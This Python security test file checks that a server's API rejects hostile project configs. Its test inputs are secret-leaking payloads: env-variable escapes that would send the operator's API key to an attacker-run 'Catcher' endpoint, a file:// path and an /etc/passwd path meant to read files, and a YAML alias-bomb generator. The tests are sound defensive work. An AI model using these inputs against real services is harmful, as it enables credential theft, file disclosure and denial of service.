"""Attacks 4 and 7: a project config written through the API is a client's, not the
operator's. It can never read the operator's environment (the YAML escape `\\x24{env:...}`
included) or files outside the allowed folders, and an alias bomb in it stalls nothing.
"""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route
from tests.security.conftest import Farm
from tests.support.live import LiveServer, scripted_config

from farmhand.assembly import create_app
from farmhand.service.projects import API_MARKER

SECRET = "sk-operator-secret-123"


class Catcher:
    """An OpenAI-compatible endpoint of the attacker's choosing, recording what it is sent."""

    def __init__(self) -> None:
        self.authorizations: list[str] = []
        self.app = Starlette(routes=[Route("/v1/chat/completions", self.chat, methods=["POST"])])

    async def chat(self, request: Request) -> JSONResponse:
        self.authorizations.append(request.headers.get("authorization", ""))
        message = {"role": "assistant", "content": "caught"}
        return JSONResponse(
            {"id": "x", "object": "chat.completion", "created": 0, "model": "m",
             "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}
        )  # fmt: skip


def project(base_url: str, api_key: str) -> str:
    return (
        "runtime:\n  models:\n    - name: leak\n      provider: openai\n      model: m\n"
        f'      base_url: "{base_url}/v1"\n      api_key: "{api_key}"\n'
    )


@pytest.mark.parametrize(
    "api_key",
    ["\\x24{env:OPENAI_API_KEY}", "${env:OPENAI_API_KEY}", "\\u0024{env:OPENAI_API_KEY}"],
)
def test_the_operators_environment_never_reaches_a_client_chosen_url(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, api_key: str
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    catcher = Catcher()
    app = create_app(scripted_config(), home=tmp_path, api_keys=())  # real providers
    with LiveServer(catcher.app) as evil, LiveServer(app) as farm:
        text = project(evil.url, api_key)
        written = httpx.post(farm.url + "/v1/projects/default", json={"name": "p", "config": text})
        assert written.status_code == 400, written.text
        assert "${env:...} is not accepted" in written.text
        # Even a file that holds the reference (written by an older farmhand, say) is read
        # as a client's: the reference stays text, so it is refused, never expanded.
        folder = tmp_path / "projects" / "default" / "old"
        folder.mkdir(parents=True)
        (folder / "farmhand.yaml").write_text(text + API_MARKER + "\n")
        chat = httpx.post(
            farm.url + "/v1/projects/default/old/chat/completions",
            json={"model": "leak", "messages": [{"role": "user", "content": "hi"}]},
        )
        assert chat.status_code == 400, chat.text
    assert catcher.authorizations == []


def test_a_plain_key_is_sent_as_written_and_the_operators_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    catcher = Catcher()
    with LiveServer(catcher.app) as evil:
        config = scripted_config().model_copy(deep=True)
        config.server.backend_hosts = [f"127.0.0.1:{evil.port}"]  # the operator allows it
        with LiveServer(create_app(config, home=tmp_path, api_keys=())) as farm:
            written = httpx.post(
                farm.url + "/v1/projects/default",
                json={"name": "p", "config": project(evil.url, "client-key")},
            )
            assert written.status_code == 200, written.text
            chat = httpx.post(
                farm.url + "/v1/projects/default/p/chat/completions",
                json={"model": "leak", "messages": [{"role": "user", "content": "hi"}]},
            )
            assert chat.status_code == 200, chat.text
    assert catcher.authorizations == ["Bearer client-key"]


def test_files_outside_allowed_dirs_are_not_read(farm: Farm, tmp_path: Path) -> None:
    secret = tmp_path / "secret-tools.json"
    secret.write_text('[{"name": "leaked", "parameters": {"type": "object"}}]')
    for config in [
        {"runtime": {"models": [{"name": "m", "provider": "openai", "model": "m",
                                 "tools": f"file://{secret}"}]}},
        {"runtime": {"models": [{"name": "m", "provider": "llamacpp",
                                 "model_path": "/etc/passwd"}]}},
    ]:  # fmt: skip
        reply = httpx.post(farm.url + "/v1/projects/default", json={"name": "p", "config": config})
        assert reply.status_code == 400, reply.text
        assert "server.allowed_dirs" in reply.text
        assert "leaked" not in reply.text


def alias_bomb(levels: int = 6) -> str:
    lines = ['a0: &a0 ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    for i in range(1, levels + 1):
        refs = ", ".join([f"*a{i - 1}"] * 10)
        lines.append(f"a{i}: &a{i} [{refs}]")
    return "\n".join(lines) + "\n"


def test_an_alias_bomb_is_refused_at_once(farm: Farm) -> None:
    bomb = alias_bomb()
    assert len(bomb) < 500
    started = time.monotonic()
    reply = httpx.post(farm.url + "/v1/projects/default", json={"name": "p", "config": bomb})
    assert reply.status_code == 400, reply.text
    assert "anchors and aliases" in reply.text
    health = httpx.get(farm.url + "/health")
    assert health.status_code == 200
    assert time.monotonic() - started < 30  # a bound on the test, not a timing claim


def test_an_alias_bomb_in_a_hand_written_file_is_an_error_not_a_stall(
    farm: Farm,
) -> None:
    folder = farm.home / "projects" / "default" / "bomb"
    folder.mkdir(parents=True)
    (folder / "farmhand.yaml").write_text(
        "rag:\n" + "".join(f"  {line}\n" for line in alias_bomb(8).splitlines())
    )
    reply = httpx.get(farm.url + "/v1/projects/default/bomb")
    assert reply.status_code == 400, reply.text
    assert "more than 50000 values" in reply.text


def test_a_config_too_large_is_refused(farm: Farm) -> None:
    big: dict[str, Any] = {"prompts": [{"name": f"p{i}", "messages": [
        {"role": "system", "content": "x" * 1000}]} for i in range(300)]}  # fmt: skip
    reply = httpx.post(farm.url + "/v1/projects/default", json={"name": "p", "config": big})
    assert reply.status_code == 400, reply.text
    assert "bytes is more than" in reply.text
